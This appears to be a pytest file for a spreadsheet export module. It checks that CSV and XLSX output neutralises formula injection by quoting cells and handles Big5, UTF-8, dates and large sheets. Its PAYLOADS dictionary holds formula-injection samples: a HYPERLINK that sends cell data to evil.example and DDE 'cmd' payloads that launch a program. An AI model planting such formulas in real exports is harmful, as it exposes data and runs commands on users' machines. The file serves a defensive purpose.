"""The shared safe writer: OWASP's CSV-injection rule, string-typed XLSX cells, Big5 and UTF-8."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

import tabular

# One payload per character OWASP lists as a formula start.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"點我")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def xstring(value: str) -> str:
    """A cell's text as a spreadsheet shows it: ECMA-376's _xHHHH_ escapes decoded (openpyxl leaves them)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)


@pytest.mark.parametrize("leading", list(PAYLOADS))
def test_a_formula_leading_text_cell_is_quoted_in_csv(leading):
    content = tabular.csv_bytes(["姓名", "課程"], [[PAYLOADS[leading], "一般課程"]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[1] == ["'" + PAYLOADS[leading], "一般課程"]


@pytest.mark.parametrize("leading", list(PAYLOADS))
def test_a_formula_leading_text_cell_is_a_quoted_string_in_xlsx(leading):
    content = tabular.xlsx_bytes([PAYLOADS[leading]], [[PAYLOADS[leading], 3]])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    header, row = list(sheet.iter_rows())
    assert xstring(header[0].value) == xstring(row[0].value) == "'" + PAYLOADS[leading]
    assert header[0].data_type == row[0].data_type == "s"
    assert row[1].value == 3 and row[1].data_type == "n"


def test_numbers_dates_and_empty_cells_are_kept_as_values():
    content = tabular.csv_bytes(["a", "b", "c"], [[-3, None, 1.5]])
    assert content.decode("utf-8-sig").splitlines()[1] == "-3,,1.5"


def test_utf8_csv_has_a_byte_order_mark_and_big5_has_none():
    assert tabular.csv_bytes(["姓名"], [["王一"]]).startswith(b"\xef\xbb\xbf")
    big5 = tabular.csv_bytes(["姓名"], [["王一"], ["=1+1"]], encoding="cp950")
    assert big5.decode("cp950").splitlines() == ["姓名", "王一", "'=1+1"]


def test_a_character_big5_cannot_hold_is_an_error_naming_row_and_column():
    with pytest.raises(tabular.UnencodableCell) as excinfo:
        tabular.csv_bytes(["身分證字號", "姓名"], [["A123456789", "王一"], ["B123456789", "林𠀋"]], encoding="big5")
    assert (excinfo.value.row, excinfo.value.column, excinfo.value.character) == (3, "姓名", "𠀋")
    assert "第 3 列" in str(excinfo.value)


def test_xlsx_keeps_numbers_dates_and_empty_cells_as_values_and_adds_extra_sheets():
    content = tabular.xlsx_bytes(
        ["年度（民國）", "日期", "時數", "空白"],
        [[114, dt.date(2025, 12, 31), Decimal("2.5"), None]],
        sheet_title="報表",
        extra_sheets=[("說明", [["依報表基準日計算"]])],
    )
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["報表", "說明"]
    header, row = (list(r) for r in workbook["報表"].iter_rows())
    assert [c.value for c in header] == ["年度（民國）", "日期", "時數", "空白"]
    assert row[0].value == 114 and row[0].data_type == "n"
    assert row[1].value == dt.datetime(2025, 12, 31) and row[1].is_date
    assert row[2].value == 2.5
    assert row[3].value in (None, "")
    assert workbook["說明"]["A1"].value == "依報表基準日計算"


def test_xlsx_writes_control_characters_escaped_instead_of_failing():
    content = tabular.xlsx_bytes(["備註"], [["甲\x01乙"]])
    cell = load_workbook(io.BytesIO(content)).worksheets[0]["A2"]
    assert xstring(cell.value) == "甲\x01乙"


def test_xlsx_streams_a_large_sheet_row_by_row():
    rows = ([i, f"學員{i}", "=1+1" if i % 2 else "一般"] for i in range(30_000))
    sheet = load_workbook(io.BytesIO(tabular.xlsx_bytes(["序號", "姓名", "課程"], rows)), read_only=True).worksheets[0]
    read = list(sheet.iter_rows(values_only=True))
    assert len(read) == 30_001
    assert read[-1] == (29_999, "學員29999", "'=1+1")
